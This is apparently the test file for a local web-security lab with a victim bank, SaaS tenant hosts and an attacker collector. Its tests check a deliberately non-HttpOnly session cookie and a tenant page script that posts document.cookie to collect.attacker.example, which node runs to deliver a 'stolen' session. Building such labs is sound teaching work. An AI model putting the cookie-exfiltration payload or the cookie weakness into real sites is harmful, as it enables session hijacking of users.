"""lab.origins: the origin apps on real sockets (127.0.0.1, free ports), via an aiohttp client;
the collector over real TLS verified against a lab CA made for the test."""
from __future__ import annotations

import dataclasses
import json
import asyncio
import os
import re
import shutil
import socket
import ssl
from html.parser import HTMLParser
from urllib.parse import urlsplit

import aiohttp
import pytest
from aiohttp import web

from lab import origins, topology
from lab.origins import bank
from lab.origins.bank import ALICE, read_account
from lab.events import Events
from lab.pki import PKIError
from lab.world import load


def local_world() -> topology.World:
    # Every origin on 127.0.0.1 (macOS has no other loopback address by default), port 0.
    w = load()
    w = w.with_ports({o.name: 0 for o in w.origins})
    return dataclasses.replace(w, origins=tuple(dataclasses.replace(o, host="127.0.0.1") for o in w.origins))


@pytest.fixture
async def lab(ca):
    events = Events()
    running = origins.Origins(local_world(), events, ca=ca)
    await running.start()
    # unsafe=True: the default jar ignores cookies set by an IP address like 127.0.0.1.
    # The collector's https is verified against the lab CA, host name included.
    tls = ssl.create_default_context(cafile=str(ca.cert_path))
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True),
                                     connector=aiohttp.TCPConnector(ssl=tls)) as session:
        yield running, {o.name: o.url for o in running.world.origins}, session, events
    await running.stop()


async def get(session, url, *, host=None, headers=None, **kw):
    headers = {**(headers or {}), **({"Host": host} if host else {})}
    async with session.get(url, headers=headers, allow_redirects=False, **kw) as r:
        return r.status, r.headers, await r.text()


# --- every origin -----------------------------------------------------------------------

@pytest.mark.parametrize("name", ["victim", "saas", "saas2", "collector"])
@pytest.mark.parametrize("path", ["/health", "/no-such-page", "/"])
async def test_every_response_says_which_origin_answered(lab, name, path):
    _, urls, session, _ = lab
    status, headers, _ = await get(session, urls[name] + path)
    assert headers["X-Lab-Origin"] == name
    if path == "/no-such-page":
        assert status == 404


async def test_errors_made_by_aiohttp_are_stamped_too(lab):
    _, urls, session, _ = lab
    async with session.delete(urls["victim"] + "/") as r:  # 405, made by the router
        assert r.status == 405 and r.headers["X-Lab-Origin"] == "victim"


async def test_a_handler_crash_is_stamped():
    world = local_world()
    app = origins.build_app(world.origin_by_name["saas"], world)

    async def boom(request):
        raise RuntimeError("boom")

    app.router.add_get("/boom", boom)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    host, port = runner.addresses[0][:2]
    try:
        async with aiohttp.ClientSession() as s, s.get(f"http://{host}:{port}/boom") as r:
            assert r.status == 500 and r.headers["X-Lab-Origin"] == "saas"
    finally:
        await runner.cleanup()


@pytest.mark.parametrize("path", ["/", "/no-such-page"])
async def test_no_response_names_the_software_behind_it(lab, path):
    _, urls, session, _ = lab
    _, headers, _ = await get(session, urls["victim"] + path)
    assert headers.getall("Server") == [origins.SERVER]


@pytest.mark.parametrize("raw", [
    b"GET / HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n",
    b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
], ids=["bad-header-name", "line-too-long"])
async def test_a_rejected_request_is_one_log_line_not_a_traceback(lab, caplog, raw):
    _, urls, _, _ = lab
    host, port = urls["victim"].removeprefix("http://").rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(raw)
    answer = await reader.read()
    writer.close()
    assert answer.startswith(b"HTTP/1.0 400")
    records = [r for r in caplog.records if r.name == "lab.origins"]
    assert len(records) == 1 and records[0].exc_info is None and records[0].levelname == "WARNING"
    assert "\n" not in records[0].getMessage() and "400" in records[0].getMessage()


async def test_health_is_json(lab):
    _, urls, session, _ = lab
    async with session.get(urls["collector"] + "/health") as r:
        assert r.status == 200 and await r.json() == {"ok": True, "origin": "collector", "kind": "collector"}


async def test_each_hit_is_an_event_with_the_edges_trace(lab):
    _, urls, session, events = lab
    await get(session, urls["victim"] + "/", headers={"X-Lab-Trace": "t1"})
    [hit] = events.trace("t1")
    assert hit["kind"] == "origin.hit" and hit["origin"] == "victim" and hit["status"] == 200


# --- victim -----------------------------------------------------------------------------

async def test_login_sets_a_readable_session_cookie_that_opens_the_account(lab):
    _, urls, session, _ = lab
    victim = urls["victim"]
    status, _, body = await get(session, victim + "/account")
    assert status == 401 and ALICE.balance not in body and "Please log in" in body

    async with session.post(victim + "/login", data={"user": "alice", "password": "pw"}, allow_redirects=False) as r:
        assert r.status == 303 and r.headers["Location"] == "/account"
        set_cookie = r.headers["Set-Cookie"]
    assert set_cookie.startswith("session=") and "httponly" not in set_cookie.lower()  # the deliberate weakness

    status, _, body = await get(session, victim + "/account")  # the session keeps the cookie
    assert status == 200 and "Hello, <span data-field=\"holder\">alice</span>" in body
    assert ALICE.balance in body and ALICE.number in body and ALICE.transactions[0][1] in body


async def test_account_refuses_a_forged_session(lab):
    _, urls, _, _ = lab
    async with aiohttp.ClientSession(cookies={"session": "guessed"}) as s:
        status, _, body = await get(s, urls["victim"] + "/account")
    assert status == 401 and ALICE.number not in body


@pytest.mark.parametrize("form", [{"user": "alice", "password": ""}, {"user": "", "password": "pw"}, {}])
async def test_login_needs_user_and_password(lab, form):
    _, urls, session, _ = lab
    async with session.post(urls["victim"] + "/login", data=form, allow_redirects=False) as r:
        assert r.status == 400 and "Set-Cookie" not in r.headers


async def test_victim_home_and_login_form(lab):
    _, urls, session, _ = lab
    status, headers, body = await get(session, urls["victim"] + "/")
    assert status == 200 and headers["Content-Type"].startswith("text/html") and "Victim Bank" in body
    status, _, body = await get(session, urls["victim"] + "/login")
    assert status == 200 and 'name="password"' in body and 'action="/login"' in body


# --- saas -------------------------------------------------------------------------------

async def test_a_tenants_host_gets_the_tenants_page(lab):
    _, urls, session, _ = lab
    status, _, body = await get(session, urls["saas"] + "/", host="Shop.Customer.Example.:8443")
    assert status == 200 and "shop" in body and "<script" not in body


@pytest.mark.parametrize("host", ["app.saas.example", "unknown.test", "not a host!", None])
async def test_any_other_host_gets_the_saas_apps_own_page(lab, host):
    _, urls, session, _ = lab
    status, _, body = await get(session, urls["saas"] + "/", host=host)
    assert status == 200 and "SaaS application" in body and "saas.example" in body
    assert "<script" not in body and "Victim Bank" not in body


@pytest.mark.parametrize("host", ["www.victim.example", "victim.example"])
async def test_the_attackers_tenant_page_posts_the_cookie_to_the_collector(lab, host):
    running, urls, session, _ = lab
    status, _, body = await get(session, urls["saas"] + "/", host=host)
    assert status == 200 and "Victim Bank" in body and "served by saas" in body
    script = re.search(r"<script>(.*)</script>", body, re.S).group(1)
    port = urls["collector"].rsplit(":", 1)[1]
    # Over https, by the collector's lab name first, then by its (loopback) address; its bound port.
    assert json.loads(re.search(r"const urls = (\[.*?\]);", script).group(1)) == [
        f"https://collect.attacker.example:{port}/collect", urls["collector"] + "/collect"]
    # A simple request (text/plain, no custom header): no CORS preflight.
    for needed in ("document.cookie", "location.origin", "new Date()", 'method: "POST"', '"Content-Type": "text/plain"'):
        assert needed in script
    assert "no-cors" not in script


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node to run the payload's JavaScript")
async def test_the_payload_script_runs_and_the_collector_gets_the_cookie(lab, ca):
    running, urls, session, _ = lab
    _, _, body = await get(session, urls["saas"] + "/", host="www.victim.example")
    script = re.search(r"<script>(.*)</script>", body, re.S).group(1)
    # A browser's globals, as the page would see them on https://www.victim.example/.
    page = ('globalThis.document = {cookie: "session=stolen"};'
            'globalThis.location = {origin: "https://www.victim.example", href: "https://www.victim.example/a"};')
    # node trusts the lab CA as the browser does (no verification switched off); it cannot
    # resolve collect.attacker.example, so the payload falls back to the collector's address.
    node = await asyncio.create_subprocess_exec("node", "-e", page + script,
                                                env={**os.environ, "NODE_EXTRA_CA_CERTS": str(ca.cert_path)})
    assert await asyncio.wait_for(node.wait(), 30) == 0
    # node exits once the fetch has its answer, and the collector records before it answers.
    [data] = [e["data"] for e in running.collected]
    assert data.pop("time").endswith("Z")
    assert data == {"cookie": "session=stolen", "origin": "https://www.victim.example", "href": "https://www.victim.example/a"}


async def test_the_second_saas_origin_has_no_tenants(lab):
    _, urls, session, _ = lab
    _, _, body = await get(session, urls["saas2"] + "/", host="www.victim.example")
    assert "saas2.example" in body and "<script" not in body


def test_collector_urls_are_https_by_name_then_by_loopback_address():
    world = load()
    assert origins.collector_urls(world) == ["https://collect.attacker.example:8080/collect",
                                            "https://127.0.0.33:8080/collect"]
    # Off loopback (compose, a classroom VM) the lab CA cannot vouch for the address: the name only.
    elsewhere = dataclasses.replace(world, origins=tuple(
        dataclasses.replace(o, host="172.20.0.33") if o.kind == "collector" else o for o in world.origins))
    assert origins.collector_urls(elsewhere) == ["https://collect.attacker.example:8080/collect"]
    none = dataclasses.replace(world, origins=tuple(o for o in world.origins if o.kind != "collector"))
    assert origins.collector_urls(none) == []


# --- collector --------------------------------------------------------------------------

async def test_the_collector_records_a_post_and_lists_it(lab):
    running, urls, session, _ = lab
    sent = {"cookie": "session=abc", "origin": "https://www.victim.example", "href": "https://www.victim.example/"}
    async with session.post(urls["collector"] + "/collect", data=json.dumps(sent),
                            headers={"Origin": "https://www.victim.example"}) as r:
        assert r.status == 200 and r.headers["Access-Control-Allow-Origin"] == "*"
    async with session.get(urls["collector"] + "/collected") as r:
        listed = await r.json()
    assert len(listed) == 1 and listed[0]["data"] == sent and listed[0]["source"] == "127.0.0.1"
    assert listed[0]["origin"] == "https://www.victim.example" and listed[0]["time"] > 0
    assert running.collected == listed


async def test_the_collector_takes_an_image_beacon(lab):
    running, urls, session, _ = lab
    status, _, _ = await get(session, urls["collector"] + "/collect", params={"d": "session=xyz"})
    assert status == 204 and [e["body"] for e in running.collected] == ["session=xyz"]


async def test_the_collector_rejects_an_oversize_body(lab):
    running, urls, session, _ = lab
    async with session.post(urls["collector"] + "/collect", data=b"x" * (origins.COLLECT_MAX_BYTES + 1)) as r:
        assert r.status == 413 and r.headers["X-Lab-Origin"] == "collector"
    async with session.post(urls["collector"] + "/collect", data=b"x" * origins.COLLECT_MAX_BYTES) as r:
        assert r.status == 200  # exactly the limit is fine
    assert [len(e["body"]) for e in running.collected] == [origins.COLLECT_MAX_BYTES]


async def test_the_collector_keeps_only_the_last_entries(lab):
    running, urls, session, _ = lab
    for i in range(origins.COLLECT_MAX_ENTRIES + 5):
        async with session.post(urls["collector"] + "/collect", data=str(i)) as r:
            assert r.status == 200
    kept = [e["body"] for e in running.collected]
    assert len(kept) == origins.COLLECT_MAX_ENTRIES and kept[0] == "5" and kept[-1] == str(origins.COLLECT_MAX_ENTRIES + 4)


async def test_the_collector_answers_a_cors_preflight(lab):
    _, urls, session, _ = lab
    async with session.options(urls["collector"] + "/collect", headers={
            "Origin": "https://www.victim.example", "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type"}) as r:
        assert r.status == 204
        assert r.headers["Access-Control-Allow-Origin"] == "*"
        assert "POST" in r.headers["Access-Control-Allow-Methods"]
        assert r.headers["Access-Control-Allow-Headers"] == "content-type"


# --- starting and stopping --------------------------------------------------------------

async def test_stop_frees_every_port(ca):
    running = origins.Origins(local_world(), ca=ca)
    bound = await running.start()
    await running.stop()
    for host, port in bound.values():
        with socket.socket() as s:
            s.bind((host, port))  # raises if still held


async def test_a_bind_failure_names_the_origin_and_address(ca):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        world = local_world().with_ports({"victim": port})
        running = origins.Origins(world, ca=ca)
        with pytest.raises(OSError, match=f"origin victim: cannot bind 127.0.0.1:{port}"):
            await running.start()
    # ...and what it had bound before failing is released again.
    assert running._runners == []


# --- offline: nothing fetched from another host --------------------------------------

class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def foreign_references(page: str, host: str) -> list[str]:
    """Every URL in the page (attributes, CSS url() and @import) that would fetch from another host."""
    found = [v for _, attrs in Tags(page).tags for k, v in attrs.items()
             if k in ("src", "href", "action", "formaction", "poster", "data", "srcset") and v]
    found += re.findall(r"url\(\s*['\"]?([^'\")]+)", page) + re.findall(r"@import\s+['\"]([^'\"]+)", page)
    return [u for u in found if not u.startswith("data:") and (urlsplit(u).scheme or urlsplit(u).netloc)
            and urlsplit(u).hostname != host]


def test_the_checker_finds_a_foreign_reference():
    page = ('<link rel="stylesheet" href="https://fonts.example.net/a.css"><a href="/ok"></a>'
            '<style>@import "//cdn.example.org/x.css"; b{background:url(http://img.example.com/x.png)}</style>'
            '<img src="data:,">')
    assert foreign_references(page, "www.victim.example") == [
        "https://fonts.example.net/a.css", "http://img.example.com/x.png", "//cdn.example.org/x.css"]


def test_read_account_reads_only_an_account_page():
    assert read_account(bank.account(ALICE, "victim")) == {"holder": "alice", "number": ALICE.number,
                                                           "balance": ALICE.balance}
    assert read_account(bank.login("victim")) == read_account(bank.home("saas")) == {}


async def test_a_collector_the_lab_ca_cannot_name_is_a_clear_error(ca):
    world = local_world()
    # Off loopback (TEST-NET: never bindable here) and no DNS record: nothing the lab CA may sign.
    world = dataclasses.replace(world, records=tuple(r for r in world.records if r.value != "origin:collector"),
                                origins=tuple(dataclasses.replace(o, host="192.0.2.33") if o.kind == "collector" else o
                                              for o in world.origins))
    running = origins.Origins(world, ca=ca)
    with pytest.raises(PKIError, match="origin collector: serves https, but no DNS record names it"):
        await running.start()
    assert running._runners == []
